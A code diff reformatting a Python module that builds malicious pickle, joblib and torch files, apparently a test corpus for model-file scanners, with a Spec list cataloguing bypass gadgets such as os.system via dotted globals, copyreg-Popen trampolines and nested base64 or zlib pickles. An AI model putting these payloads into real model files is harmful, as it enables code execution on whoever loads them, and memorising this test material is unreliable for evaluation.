@@ -44,7 +44,15 @@ def runpy_run_code(f: Path, m: str) -> Path:
 
 def typing_get_type_hints(f: Path, m: str) -> Path:
     expression = f"__import__('os').system({shell(m)!r})"
-    namespace = call(glob("types", "SimpleNamespace")) + b"}" + s("__annotations__") + b"}" + s("x") + s(expression) + b"ssb"
+    namespace = (
+        call(glob("types", "SimpleNamespace"))
+        + b"}"
+        + s("__annotations__")
+        + b"}"
+        + s("x")
+        + s(expression)
+        + b"ssb"
+    )
     return _pkl(f, P2 + glob("typing", "get_type_hints") + namespace + b"\x85R.")
 
 
@@ -75,7 +83,12 @@ def os_spawnv(f: Path, m: str) -> Path:
 
 def multiprocessing_spawnv_passfds(f: Path, m: str) -> Path:
     touch = shutil.which("touch") or "/usr/bin/touch"
-    return _pkl(f, P2 + call(glob("multiprocessing.util", "spawnv_passfds"), lit(touch.encode()), lit(["touch", m]), b")") + b".")
+    return _pkl(
+        f,
+        P2
+        + call(glob("multiprocessing.util", "spawnv_passfds"), lit(touch.encode()), lit(["touch", m]), b")")
+        + b".",
+    )
 
 
 def inst_logging_filehandler(f: Path, m: str) -> Path:
@@ -108,7 +121,9 @@ def zipfile_write_mode(f: Path, m: str) -> Path:
 
 def code_interpreter_runsource(f: Path, m: str) -> Path:
     interpreter = call(glob("code", "InteractiveInterpreter"))
-    return _pkl(f, P4 + sglob("code", "InteractiveInterpreter.runsource") + b"(" + interpreter + s(python(m)) + b"tR.")
+    return _pkl(
+        f, P4 + sglob("code", "InteractiveInterpreter.runsource") + b"(" + interpreter + s(python(m)) + b"tR."
+    )
 
 
 def defaultdict_factory(f: Path, m: str) -> Path:
@@ -130,7 +145,9 @@ def site_builtins_dotted(f: Path, m: str) -> Path:
 
 
 def torch_serialization_os_dotted(f: Path, m: str) -> Path:
-    return _pkl(f, P4 + sglob("torch.serialization", "os.system") + s(shell(m)) + b"\x85R.", "pytorch_model.bin")
+    return _pkl(
+        f, P4 + sglob("torch.serialization", "os.system") + s(shell(m)) + b"\x85R.", "pytorch_model.bin"
+    )
 
 
 def sys_modules_getitem(f: Path, m: str) -> Path:
@@ -150,7 +167,11 @@ def io_open_alias(f: Path, m: str) -> Path:
 
 def sklearn_reexported_import_module(f: Path, m: str) -> Path:
     module = call(glob("sklearn.utils.discovery", "import_module"), s("subprocess"))
-    return _pkl(f, P2 + call(glob("builtins", "getattr"), module, s("getoutput")) + s(shell(m)) + b"\x85R.", "model.joblib")
+    return _pkl(
+        f,
+        P2 + call(glob("builtins", "getattr"), module, s("getoutput")) + s(shell(m)) + b"\x85R.",
+        "model.joblib",
+    )
 
 
 def scipy_reexported_import_module(f: Path, m: str) -> Path:
@@ -165,8 +186,17 @@ def pathlib_touch_method(f: Path, m: str) -> Path:
 
 def copyreg_reconstructor_init(f: Path, m: str) -> Path:
     """copyreg._reconstructor(cls, base, state) runs base.__init__(obj, state): a constructor as a trampoline."""
-    return _pkl(f, P2 + call(glob("copyreg", "_reconstructor"), glob("subprocess", "Popen"), glob("subprocess", "Popen"),
-                             lit(["touch", m])) + b".")
+    return _pkl(
+        f,
+        P2
+        + call(
+            glob("copyreg", "_reconstructor"),
+            glob("subprocess", "Popen"),
+            glob("subprocess", "Popen"),
+            lit(["touch", m]),
+        )
+        + b".",
+    )
 
 
 # --- class 4: a second payload carried as data ---------------------------------------------
@@ -190,7 +220,12 @@ def pickle_loads_base64(f: Path, m: str) -> Path:
 
 
 def pickle_loads_zlib(f: Path, m: str) -> Path:
-    return _pkl(f, P2 + call(glob("_pickle", "loads"), call(glob("zlib", "decompress"), lit(zlib.compress(_inner(m))))) + b".")
+    return _pkl(
+        f,
+        P2
+        + call(glob("_pickle", "loads"), call(glob("zlib", "decompress"), lit(zlib.compress(_inner(m)))))
+        + b".",
+    )
 
 
 def numpy_load_bytesio(f: Path, m: str) -> Path:
@@ -220,7 +255,9 @@ def joblib_load_bytesio(f: Path, m: str) -> Path:
 
 
 def pandas_read_pickle(f: Path, m: str) -> Path:
-    return _pkl(f, P2 + call(glob("pandas", "read_pickle"), call(glob("_io", "BytesIO"), lit(_inner(m)))) + b".")
+    return _pkl(
+        f, P2 + call(glob("pandas", "read_pickle"), call(glob("_io", "BytesIO"), lit(_inner(m)))) + b"."
+    )
 
 
 def dill_loads(f: Path, m: str) -> Path:
@@ -256,82 +293,318 @@ def _ref(path: str) -> str:
 
 SPECS: list[Spec] = [
     # class 1
-    Spec("cprofile-run", 1, "cProfile.run(code) executes a source string (module twin of profile.run)",
-         "https://github.com/protectai/modelscan/pull/313", "pickle", cprofile_run),
-    Spec("runpy-run-code", 1, "runpy._run_code(source, {}) is an exec behind a private name",
-         _ref("runpy.py:_run_code"), "pickle", runpy_run_code),
-    Spec("typing-get-type-hints", 1, "typing.get_type_hints evaluates a string annotation set by BUILD on a SimpleNamespace",
-         _ref("typing.py:get_type_hints/ForwardRef._evaluate"), "pickle", typing_get_type_hints),
-    Spec("torch-collect-env-run", 1, "torch.utils.collect_env.run(cmd) is Popen(shell=True)",
-         MODELSCAN_338, "pickle", torch_collect_env_run),
-    Spec("torch-fx-exec-with-source", 1, "torch.fx.graph_module._exec_with_source(src, {}) compiles and execs",
-         _ref("torch/fx/graph_module.py:_exec_with_source"), "pickle", torch_fx_exec_with_source),
-    Spec("pydoc-pipepager", 1, "pydoc.pipepager(text, cmd) pipes into a shell command",
-         _ref("pydoc.py:pipepager"), "pickle", pydoc_pipepager),
-    Spec("pydoc-tempfilepager", 1, "pydoc.tempfilepager(text, cmd) runs os.system(cmd + file)",
-         _ref("pydoc.py:tempfilepager"), "pickle", pydoc_tempfilepager),
-    Spec("imaplib-stream", 1, "imaplib.IMAP4_stream(cmd) spawns its 'server' with a shell",
-         _ref("imaplib.py:IMAP4_stream.open"), "pickle", imaplib_stream),
-    Spec("os-spawnv", 1, "os.spawnv(P_WAIT, path, argv): a process spawn outside system/popen/subprocess",
-         _ref("os.py:spawnv"), "pickle", os_spawnv),
-    Spec("multiprocessing-spawnv-passfds", 1, "multiprocessing.util.spawnv_passfds forks and execs a program",
-         MODELSCAN_338, "pickle", multiprocessing_spawnv_passfds),
-    Spec("inst-logging-filehandler", 1, "INST builds logging.FileHandler(path): the constructor creates the file",
-         _ref("logging/__init__.py:FileHandler.__init__"), "pickle", inst_logging_filehandler),
-    Spec("numpy-savetxt", 1, "numpy.savetxt(path, X) writes an arbitrary file",
-         _ref("numpy/lib/_npyio_impl.py:savetxt"), "pickle", numpy_savetxt),
-    Spec("torch-save-to-path", 1, "torch.save(obj, path) called at load time writes an arbitrary file",
-         _ref("torch/serialization.py:save"), "torch", torch_save_to_path),
-    Spec("operator-methodcaller", 1, "operator.methodcaller('system', cmd) applied to importlib.import_module('os')",
-         PICKLESCAN_66, "pickle", operator_methodcaller),
-    Spec("functools-reduce-getattr", 1, "_functools.reduce(getattr, ['system'], os) computes the callable",
-         MODELAUDIT_1061, "pickle", functools_reduce_getattr),
-    Spec("zipfile-write-mode", 1, "zipfile.ZipFile(path, 'w') creates/truncates a file on construction",
-         _ref("zipfile/__init__.py:ZipFile.__init__"), "pickle", zipfile_write_mode),
-    Spec("code-interpreter-runsource", 1, "code.InteractiveInterpreter.runsource(instance, src) as an unbound method",
-         "https://github.com/protectai/modelscan/pull/313", "pickle", code_interpreter_runsource),
-    Spec("defaultdict-factory-callback", 1, "defaultdict(partial(os.system, cmd))['missing'] runs the factory",
-         MODELAUDIT_1061, "pickle", defaultdict_factory),
+    Spec(
+        "cprofile-run",
+        1,
+        "cProfile.run(code) executes a source string (module twin of profile.run)",
+        "https://github.com/protectai/modelscan/pull/313",
+        "pickle",
+        cprofile_run,
+    ),
+    Spec(
+        "runpy-run-code",
+        1,
+        "runpy._run_code(source, {}) is an exec behind a private name",
+        _ref("runpy.py:_run_code"),
+        "pickle",
+        runpy_run_code,
+    ),
+    Spec(
+        "typing-get-type-hints",
+        1,
+        "typing.get_type_hints evaluates a string annotation set by BUILD on a SimpleNamespace",
+        _ref("typing.py:get_type_hints/ForwardRef._evaluate"),
+        "pickle",
+        typing_get_type_hints,
+    ),
+    Spec(
+        "torch-collect-env-run",
+        1,
+        "torch.utils.collect_env.run(cmd) is Popen(shell=True)",
+        MODELSCAN_338,
+        "pickle",
+        torch_collect_env_run,
+    ),
+    Spec(
+        "torch-fx-exec-with-source",
+        1,
+        "torch.fx.graph_module._exec_with_source(src, {}) compiles and execs",
+        _ref("torch/fx/graph_module.py:_exec_with_source"),
+        "pickle",
+        torch_fx_exec_with_source,
+    ),
+    Spec(
+        "pydoc-pipepager",
+        1,
+        "pydoc.pipepager(text, cmd) pipes into a shell command",
+        _ref("pydoc.py:pipepager"),
+        "pickle",
+        pydoc_pipepager,
+    ),
+    Spec(
+        "pydoc-tempfilepager",
+        1,
+        "pydoc.tempfilepager(text, cmd) runs os.system(cmd + file)",
+        _ref("pydoc.py:tempfilepager"),
+        "pickle",
+        pydoc_tempfilepager,
+    ),
+    Spec(
+        "imaplib-stream",
+        1,
+        "imaplib.IMAP4_stream(cmd) spawns its 'server' with a shell",
+        _ref("imaplib.py:IMAP4_stream.open"),
+        "pickle",
+        imaplib_stream,
+    ),
+    Spec(
+        "os-spawnv",
+        1,
+        "os.spawnv(P_WAIT, path, argv): a process spawn outside system/popen/subprocess",
+        _ref("os.py:spawnv"),
+        "pickle",
+        os_spawnv,
+    ),
+    Spec(
+        "multiprocessing-spawnv-passfds",
+        1,
+        "multiprocessing.util.spawnv_passfds forks and execs a program",
+        MODELSCAN_338,
+        "pickle",
+        multiprocessing_spawnv_passfds,
+    ),
+    Spec(
+        "inst-logging-filehandler",
+        1,
+        "INST builds logging.FileHandler(path): the constructor creates the file",
+        _ref("logging/__init__.py:FileHandler.__init__"),
+        "pickle",
+        inst_logging_filehandler,
+    ),
+    Spec(
+        "numpy-savetxt",
+        1,
+        "numpy.savetxt(path, X) writes an arbitrary file",
+        _ref("numpy/lib/_npyio_impl.py:savetxt"),
+        "pickle",
+        numpy_savetxt,
+    ),
+    Spec(
+        "torch-save-to-path",
+        1,
+        "torch.save(obj, path) called at load time writes an arbitrary file",
+        _ref("torch/serialization.py:save"),
+        "torch",
+        torch_save_to_path,
+    ),
+    Spec(
+        "operator-methodcaller",
+        1,
+        "operator.methodcaller('system', cmd) applied to importlib.import_module('os')",
+        PICKLESCAN_66,
+        "pickle",
+        operator_methodcaller,
+    ),
+    Spec(
+        "functools-reduce-getattr",
+        1,
+        "_functools.reduce(getattr, ['system'], os) computes the callable",
+        MODELAUDIT_1061,
+        "pickle",
+        functools_reduce_getattr,
+    ),
+    Spec(
+        "zipfile-write-mode",
+        1,
+        "zipfile.ZipFile(path, 'w') creates/truncates a file on construction",
+        _ref("zipfile/__init__.py:ZipFile.__init__"),
+        "pickle",
+        zipfile_write_mode,
+    ),
+    Spec(
+        "code-interpreter-runsource",
+        1,
+        "code.InteractiveInterpreter.runsource(instance, src) as an unbound method",
+        "https://github.com/protectai/modelscan/pull/313",
+        "pickle",
+        code_interpreter_runsource,
+    ),
+    Spec(
+        "defaultdict-factory-callback",
+        1,
+        "defaultdict(partial(os.system, cmd))['missing'] runs the factory",
+        MODELAUDIT_1061,
+        "pickle",
+        defaultdict_factory,
+    ),
     # class 2
-    Spec("pydoc-locate", 2, "pydoc.locate('os.system') resolves a dotted string to the function",
-         PICKLESCAN_66, "pickle", pydoc_locate),
-    Spec("site-builtins-dotted", 2, "protocol-4 dotted name site.builtins.exec: site's module attribute is builtins",
-         _ref("pickle.py:_getattribute (dotted names at protocol 4)"), "pickle", site_builtins_dotted),
-    Spec("torch-serialization-os-dotted", 2, "torch.serialization.os.system via a dotted STACK_GLOBAL",
-         _ref("pickle.py:find_class"), "torch", torch_serialization_os_dotted),
-    Spec("sys-modules-getitem", 2, "operator.getitem(sys.modules, 'posix') then getattr(..., 'system')",
-         PICKLESCAN_66, "pickle", sys_modules_getitem),
-    Spec("logging-dictconfig-factory", 2, "logging.config.dictConfig resolves a '()' factory string to subprocess.check_call",
-         _ref("logging/config.py:DictConfigurator.configure_handler"), "pickle", logging_dictconfig_factory),
-    Spec("io-open-alias", 2, "io.open is builtins.open under another module path; opens the marker for writing",
-         _ref("io.py (open re-exported from _io)"), "pickle", io_open_alias),
-    Spec("sklearn-reexported-import-module", 2, "sklearn.utils.discovery.import_module is importlib.import_module re-exported",
-         PICKLESCAN_66, "joblib", sklearn_reexported_import_module),
-    Spec("scipy-reexported-import-module", 2, "scipy._lib.deprecation.import_module is importlib.import_module re-exported",
-         PICKLESCAN_66, "pickle", scipy_reexported_import_module),
-    Spec("pathlib-touch-method", 2, "pathlib.Path.touch on a PosixPath: a safe-looking class whose method writes files",
-         _ref("pathlib.py:Path.touch"), "pickle", pathlib_touch_method),
-    Spec("copyreg-reconstructor-init", 2, "copyreg._reconstructor(Popen, Popen, argv) runs Popen.__init__ via the copyreg helper",
-         _ref("copyreg.py:_reconstructor"), "pickle", copyreg_reconstructor_init),
+    Spec(
+        "pydoc-locate",
+        2,
+        "pydoc.locate('os.system') resolves a dotted string to the function",
+        PICKLESCAN_66,
+        "pickle",
+        pydoc_locate,
+    ),
+    Spec(
+        "site-builtins-dotted",
+        2,
+        "protocol-4 dotted name site.builtins.exec: site's module attribute is builtins",
+        _ref("pickle.py:_getattribute (dotted names at protocol 4)"),
+        "pickle",
+        site_builtins_dotted,
+    ),
+    Spec(
+        "torch-serialization-os-dotted",
+        2,
+        "torch.serialization.os.system via a dotted STACK_GLOBAL",
+        _ref("pickle.py:find_class"),
+        "torch",
+        torch_serialization_os_dotted,
+    ),
+    Spec(
+        "sys-modules-getitem",
+        2,
+        "operator.getitem(sys.modules, 'posix') then getattr(..., 'system')",
+        PICKLESCAN_66,
+        "pickle",
+        sys_modules_getitem,
+    ),
+    Spec(
+        "logging-dictconfig-factory",
+        2,
+        "logging.config.dictConfig resolves a '()' factory string to subprocess.check_call",
+        _ref("logging/config.py:DictConfigurator.configure_handler"),
+        "pickle",
+        logging_dictconfig_factory,
+    ),
+    Spec(
+        "io-open-alias",
+        2,
+        "io.open is builtins.open under another module path; opens the marker for writing",
+        _ref("io.py (open re-exported from _io)"),
+        "pickle",
+        io_open_alias,
+    ),
+    Spec(
+        "sklearn-reexported-import-module",
+        2,
+        "sklearn.utils.discovery.import_module is importlib.import_module re-exported",
+        PICKLESCAN_66,
+        "joblib",
+        sklearn_reexported_import_module,
+    ),
+    Spec(
+        "scipy-reexported-import-module",
+        2,
+        "scipy._lib.deprecation.import_module is importlib.import_module re-exported",
+        PICKLESCAN_66,
+        "pickle",
+        scipy_reexported_import_module,
+    ),
+    Spec(
+        "pathlib-touch-method",
+        2,
+        "pathlib.Path.touch on a PosixPath: a safe-looking class whose method writes files",
+        _ref("pathlib.py:Path.touch"),
+        "pickle",
+        pathlib_touch_method,
+    ),
+    Spec(
+        "copyreg-reconstructor-init",
+        2,
+        "copyreg._reconstructor(Popen, Popen, argv) runs Popen.__init__ via the copyreg helper",
+        _ref("copyreg.py:_reconstructor"),
+        "pickle",
+        copyreg_reconstructor_init,
+    ),
     # class 4
-    Spec("marshal-function", 4, "types.FunctionType(marshal.loads(code), {})() runs marshalled bytecode",
-         "https://github.com/mmaitre314/picklescan/pull/74", "pickle", marshal_function),
-    Spec("pickle-loads-base64", 4, "pickle.loads(base64.b64decode(text)): the inner pickle is base64 text",
-         "https://github.com/protectai/modelscan/issues/267", "pickle", pickle_loads_base64),
-    Spec("pickle-loads-zlib", 4, "_pickle.loads(zlib.decompress(bytes)): the inner pickle is compressed",
-         "https://github.com/protectai/modelscan/issues/267", "pickle", pickle_loads_zlib),
-    Spec("numpy-load-bytesio", 4, "partial(numpy.load, allow_pickle=True)(BytesIO(npy)) with an object array inside",
-         _ref("numpy/lib/_npyio_impl.py:load"), "pickle", numpy_load_bytesio),
-    Spec("torch-load-bytesio", 4, "partial(torch.load, weights_only=False)(BytesIO(zip)) loads an in-memory checkpoint",
-         _ref("torch/serialization.py:load"), "torch", torch_load_bytesio),
-    Spec("joblib-load-bytesio", 4, "joblib.load(BytesIO(gzip joblib)) nested inside a plain pickle",
-         _ref("joblib/numpy_pickle.py:load"), "joblib", joblib_load_bytesio),
-    Spec("pandas-read-pickle", 4, "pandas.read_pickle(BytesIO(inner))", MODELSCAN_338, "pickle", pandas_read_pickle),
-    Spec("dill-loads", 4, "dill.loads(inner) (dill is a pickle superset)", _ref("dill/_dill.py:loads"), "pickle", dill_loads),
-    Spec("fx-graph-module-code", 4, "torch.fx reduce_graph_module with injected statements in the body's _code",
-         _ref("torch/fx/graph_module.py:reduce_graph_module/_forward_from_src"), "torch", fx_graph_module_code),
-    Spec("torch-package-module", 4, "torch.package archive whose pickle imports a packaged module with top-level code",
-         _ref("torch/package/package_importer.py:load_pickle"), "torch-package", torch_package_module),
-    Spec("pickle-unpickler-method", 4, "pickle._Unpickler(BytesIO(inner)).load via a dotted unbound method",
-         _ref("pickle.py:_Unpickler.load"), "pickle", pickle_unpickler_method),
+    Spec(
+        "marshal-function",
+        4,
+        "types.FunctionType(marshal.loads(code), {})() runs marshalled bytecode",
+        "https://github.com/mmaitre314/picklescan/pull/74",
+        "pickle",
+        marshal_function,
+    ),
+    Spec(
+        "pickle-loads-base64",
+        4,
+        "pickle.loads(base64.b64decode(text)): the inner pickle is base64 text",
+        "https://github.com/protectai/modelscan/issues/267",
+        "pickle",
+        pickle_loads_base64,
+    ),
+    Spec(
+        "pickle-loads-zlib",
+        4,
+        "_pickle.loads(zlib.decompress(bytes)): the inner pickle is compressed",
+        "https://github.com/protectai/modelscan/issues/267",
+        "pickle",
+        pickle_loads_zlib,
+    ),
+    Spec(
+        "numpy-load-bytesio",
+        4,
+        "partial(numpy.load, allow_pickle=True)(BytesIO(npy)) with an object array inside",
+        _ref("numpy/lib/_npyio_impl.py:load"),
+        "pickle",
+        numpy_load_bytesio,
+    ),
+    Spec(
+        "torch-load-bytesio",
+        4,
+        "partial(torch.load, weights_only=False)(BytesIO(zip)) loads an in-memory checkpoint",
+        _ref("torch/serialization.py:load"),
+        "torch",
+        torch_load_bytesio,
+    ),
+    Spec(
+        "joblib-load-bytesio",
+        4,
+        "joblib.load(BytesIO(gzip joblib)) nested inside a plain pickle",
+        _ref("joblib/numpy_pickle.py:load"),
+        "joblib",
+        joblib_load_bytesio,
+    ),
+    Spec(
+        "pandas-read-pickle",
+        4,
+        "pandas.read_pickle(BytesIO(inner))",
+        MODELSCAN_338,
+        "pickle",
+        pandas_read_pickle,
+    ),
+    Spec(
+        "dill-loads",
+        4,
+        "dill.loads(inner) (dill is a pickle superset)",
+        _ref("dill/_dill.py:loads"),
+        "pickle",
+        dill_loads,
+    ),
+    Spec(
+        "fx-graph-module-code",
+        4,
+        "torch.fx reduce_graph_module with injected statements in the body's _code",
+        _ref("torch/fx/graph_module.py:reduce_graph_module/_forward_from_src"),
+        "torch",
+        fx_graph_module_code,
+    ),
+    Spec(
+        "torch-package-module",
+        4,
+        "torch.package archive whose pickle imports a packaged module with top-level code",
+        _ref("torch/package/package_importer.py:load_pickle"),
+        "torch-package",
+        torch_package_module,
+    ),
+    Spec(
+        "pickle-unpickler-method",
+        4,
+        "pickle._Unpickler(BytesIO(inner)).load via a dotted unbound method",
+        _ref("pickle.py:_Unpickler.load"),
+        "pickle",
+        pickle_unpickler_method,
+    ),
 ]
